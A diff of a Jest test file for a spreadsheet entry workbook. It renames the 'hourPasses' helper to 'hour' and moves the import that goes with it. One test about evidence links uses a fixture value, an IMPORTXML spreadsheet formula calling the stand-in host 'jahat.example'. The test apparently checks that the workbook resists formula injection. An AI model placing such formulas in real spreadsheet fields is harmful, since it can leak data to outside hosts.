@@ -1,7 +1,7 @@
 import type { EntriesView } from '../../src/entry/open-entries';
 import { entriesTab, tableRows } from '../support/entries';
-import { entryForm, giveRights, hourPasses, type Key } from '../support/entry-form';
-import { openTestWorkbook, owner, type TestWorkbook } from '../support/workbook';
+import { entryForm, giveRights, type Key } from '../support/entry-form';
+import { hour, openTestWorkbook, owner, type TestWorkbook } from '../support/workbook';
 
 jest.setTimeout(120_000);
 
@@ -16,7 +16,7 @@ beforeEach(async () => {
   tab = entriesTab(book);
   await book.door('setUp');
   await giveRights(book, { 'Dinas Kesehatan': health, 'Dinas Sosial': social }, [[verifier, 'Verifikator']]);
-  await hourPasses(book);
+  await hour(book);
 });
 afterEach(() => book.close());
 
@@ -55,7 +55,7 @@ test('an operator begins an entry, fills it in and submits it: a numbered row th
     Status: 'Diajukan',
   };
   expect((await tab.rows(1))[0]).toMatchObject(stored);
-  await hourPasses(book);
+  await hour(book);
   expect((await tab.rows(1))[0]).toMatchObject({ ...stored, Dibuat: '2025-04-23', 'Diubah oleh': health });
   const log = await tableRows(book, 'Riwayat');
   expect(
@@ -69,7 +69,7 @@ test('an operator begins an entry, fills it in and submits it: a numbered row th
       ['Tanggal penerapan', '1 Maret 2024', health, 'Bilah sisi'],
     ]),
   );
-  const quiet = await hourPasses(book);
+  const quiet = await hour(book);
   expect(quiet.calls.write).toBe(0);
 });
 
@@ -224,7 +224,7 @@ test('evidence is claimed per indicator; what Bapperida verified is never touche
       'Tautan bukti': '=IMPORTXML("http://jahat.example","//a")',
     },
   ]);
-  await hourPasses(book);
+  await hour(book);
   const log = await tableRows(book, 'Riwayat');
   expect(log.filter((line) => String(line.Apa).startsWith('Bukti 16'))).toMatchObject([
     { ID: entry.key.id, Siapa: health, Semula: '', Menjadi: '2' },
